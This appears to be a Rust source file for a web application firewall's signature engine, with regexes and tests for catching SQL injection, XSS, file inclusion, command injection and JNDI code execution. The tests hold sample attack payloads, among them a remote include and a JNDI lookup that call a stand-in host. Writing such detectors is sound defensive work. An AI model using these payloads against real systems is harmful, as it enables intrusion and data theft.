//! Basic protection: signatures over the decoded request. Few, but real: they find attacks however these are
//! encoded, and leave alone the apostrophes, dashes and English of harmless visitors.

use regex::RegexSet;
use std::borrow::Cow;

/// What of a request is inspected.
#[derive(Debug, Clone, Copy)]
pub(super) struct Inspected<'a> {
    pub path: &'a str,
    pub query: &'a str,
    pub body: &'a [u8],
    pub user_agent: &'a str,
    pub referer: &'a str,
}

/// The module of the firewall that refused, with the vendor's names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Finding {
    /// `waf` for basic protection, `antiscan` for scanners.
    pub plugin: &'static str,
    /// The vendor's rule subtype, such as `sqli`.
    pub kind: &'static str,
    pub rule: u32,
}

/// Rule id, subtype, and what it looks for in text that is decoded, in lower case, and without comments.
const SIGNATURES: [(u32, &str, &str); 16] = [
    (113_406, "sqli", r"\bunion( all)?( distinct)? select\b"),
    (
        113_407,
        "sqli",
        r#"['"]\s*\)*\s*\b(or|and)\b\s+\(*['"\d(][^&]*(=|like|<|>)"#,
    ),
    (
        113_408,
        "sqli",
        r"\b(sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file)\s*\(",
    ),
    (113_409, "sqli", r"\bwaitfor delay\b|\binformation_schema\b"),
    (
        113_410,
        "sqli",
        r";\s*(drop|alter|truncate) (table|database)\b|;\s*(insert into|delete from)\b",
    ),
    (113_501, "xss", r"<\s*(script|iframe|svg|object|embed)\b"),
    (113_502, "xss", r"<[^>]*\bon[a-z]{3,15}\s*=|javascript\s*:"),
    (113_601, "path_traversal", r"(\.\.[/\\]){2,}"),
    (
        113_602,
        "lfilei",
        r"/etc/(passwd|shadow|hosts)\b|\bwin\.ini\b|/proc/self/",
    ),
    (113_603, "lfilei", r"\b(php|zip|phar|expect|data)://"),
    (113_604, "rfilei", r"\b(file|page|include|template)=https?://"),
    (
        113_701,
        "cmdi",
        r"[;|&`]\s*(cat|id|whoami|uname|wget|curl|bash|sh|nc|ping|powershell)\b",
    ),
    (
        113_702,
        "cmdi",
        r"\$\((cat|id|whoami|uname|wget|curl|bash|sh|nc)\b|/bin/(ba)?sh\b",
    ),
    (113_703, "code_exec", r"\$\{\s*(jndi|lower|upper|env|::-)\s*:"),
    (
        113_704,
        "code_exec",
        r"\b(eval|assert|system|passthru|shell_exec)\s*\(\s*[$'\x22]",
    ),
    (
        113_705,
        "code_exec",
        r"class\.module\.classloader|\b_memberaccess\b",
    ),
];

/// User agents of tools that scan.
const SCANNERS: &str = r"(?i)\b(sqlmap|nikto|nuclei|acunetix|nessus|dirbuster|gobuster|feroxbuster|wpscan|masscan|zgrab|w3af|dirb)\b";

/// The vendor's rule for scanning tools.
const SCANNER: Finding = Finding {
    plugin: "antiscan",
    kind: "scantools",
    rule: 114_001,
};

/// The compiled signatures.
#[derive(Debug)]
pub(super) struct Engine {
    signatures: RegexSet,
    scanners: regex::Regex,
}

impl Engine {
    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            signatures: RegexSet::new(SIGNATURES.iter().map(|(_, _, pattern)| pattern))?,
            scanners: regex::Regex::new(SCANNERS)?,
        })
    }

    /// The first signature that matches anywhere; scanners by their user agent after that.
    pub fn inspect(&self, request: Inspected<'_>) -> Option<Finding> {
        let body = String::from_utf8_lossy(request.body);
        let parts = [
            request.path,
            request.query,
            &body,
            request.user_agent,
            request.referer,
        ];
        let found = parts
            .iter()
            .filter_map(|part| self.signatures.matches(&normalise(part)).iter().next());
        let (rule, kind, _) = match found.min() {
            Some(index) => SIGNATURES[index],
            None => return self.scanners.is_match(request.user_agent).then_some(SCANNER),
        };
        Some(Finding {
            plugin: "waf",
            kind,
            rule,
        })
    }
}

/// Undoes two rounds of URL encoding, comments used as spaces, runs of spaces, and case.
fn normalise(text: &str) -> String {
    let once = decode(text);
    let twice = decode(&once);
    let mut plain = String::with_capacity(twice.len());
    let mut rest = twice.as_ref();
    while let Some((before, comment)) = rest.split_once("/*") {
        let Some((_, after)) = comment.split_once("*/") else {
            break;
        };
        plain.push_str(before);
        plain.push(' ');
        rest = after;
    }
    plain.push_str(rest);
    plain.make_ascii_lowercase();
    plain.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn decode(text: &str) -> Cow<'_, str> {
    if !text.contains(['%', '+']) {
        return Cow::Borrowed(text);
    }
    let spaced = text.replace('+', " ");
    Cow::Owned(
        percent_encoding::percent_decode_str(&spaced)
            .decode_utf8_lossy()
            .into_owned(),
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn inspect(query: &str, body: &str, user_agent: &str) -> Option<&'static str> {
        let request = Inspected {
            path: "/search",
            query,
            body: body.as_bytes(),
            user_agent,
            referer: "-",
        };
        Engine::new()
            .unwrap()
            .inspect(request)
            .map(|finding| finding.kind)
    }

    #[test]
    fn finds_attacks_however_they_are_written() {
        let check = |query, expected| assert_eq!(inspect(query, "", "curl"), Some(expected), "{query}");
        check("id=1%27%20union%20select%201,2,3--", "sqli");
        check("id=1+UNION/**/ALL/**/SELECT+password+from+users", "sqli");
        check("id=1%2527%2520or%2520%25271%2527%253D%25271", "sqli");
        check("id=1' and sleep(5)--", "sqli");
        check("id=1;drop table users", "sqli");
        check("q=%3Cscript%3Ealert(1)%3C/script%3E", "xss");
        check("q=<img src=x onerror=alert(1)>", "xss");
        check("file=..%2f..%2f..%2fetc%2fpasswd", "path_traversal");
        check("file=/etc/passwd", "lfilei");
        check("page=php://filter/convert.base64-encode/resource=index", "lfilei");
        check("page=http://203.0.113.7/shell.txt", "rfilei");
        check("host=127.0.0.1;cat /flag", "cmdi");
        check("x=${jndi:ldap://203.0.113.7/a}", "code_exec");
        assert_eq!(
            inspect("", "user=admin'+or+'1'='1&password=x", "curl"),
            Some("sqli")
        );
        assert_eq!(inspect("", "", "${jndi:ldap://203.0.113.7/a}"), Some("code_exec"));
        assert_eq!(
            inspect("", "", "sqlmap/1.8#stable (https://sqlmap.org)"),
            Some("scantools")
        );
    }

    #[test]
    fn leaves_harmless_visitors_alone() {
        for query in [
            "q=O%27Brien%27s+guide",
            "q=rock+%27n%27+roll+or+jazz",
            "q=select+a+union+jack",
            "q=what's on--and off",
            "q=cats+%26+dogs",
            "q=100%25+cotton",
            "q=it%27s+5+o%27clock+and+rain",
            "q=on+sale+%3D+cheap",
            "page=2&sort=price",
        ] {
            assert_eq!(
                inspect(query, "", "Mozilla/5.0 (X11; Linux x86_64)"),
                None,
                "{query}"
            );
        }
    }
}
